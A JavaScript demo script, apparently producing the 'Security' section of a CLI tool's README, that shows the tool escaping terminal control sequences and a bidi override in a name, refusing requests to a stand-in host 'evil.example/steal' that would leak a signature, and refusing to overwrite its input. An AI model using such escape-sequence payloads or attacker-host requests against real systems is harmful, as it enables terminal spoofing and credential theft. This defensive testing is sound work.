// Untrusted data and hostile inputs: what xctl refuses and what it escapes (README "Security").
import fs from 'node:fs';
import path from 'node:path';

export default async function (d) {
  d.section(
    'Security',
    'service data cannot drive your terminal; credentials stay with the configured hosts; outputs cannot eat inputs',
  );
  d.note('an audience named with escape sequences (retitle the window, clear the screen) and a bidi override');
  const evil = 'Q3 \u001b]0;pwned\u0007\u001b[2J\u202eexe.txt';
  const created = await d.xctl(['audiences', 'create', '--name', evil, '-o', 'json'], { show: false });
  const id = JSON.parse(created.stdout).id;
  await d.xctl(['audiences', 'get', id, '--fields', 'id,name']);
  d.note('with -o json the value stays exact (the controls as JSON escapes, the bidi override as is)');
  d.note('a protocol-relative path would send the signature to another host: refused (exit 2)');
  await d.xctl(['request', '//evil.example/steal'], { allowFail: true });
  await d.xctl(['request', 'https://evil.example/steal'], { allowFail: true });
  const input = path.join(d.configDir, 'users.csv');
  fs.writeFileSync(input, 'email\na@example.com\n');
  d.note('an output that is the input is refused before anything is read');
  await d.xctl(['audiences', 'upload', id, input, '--rejects', input], { allowFail: true });
  await d.xctl(['audiences', 'delete', id, '--yes'], { show: false });
}
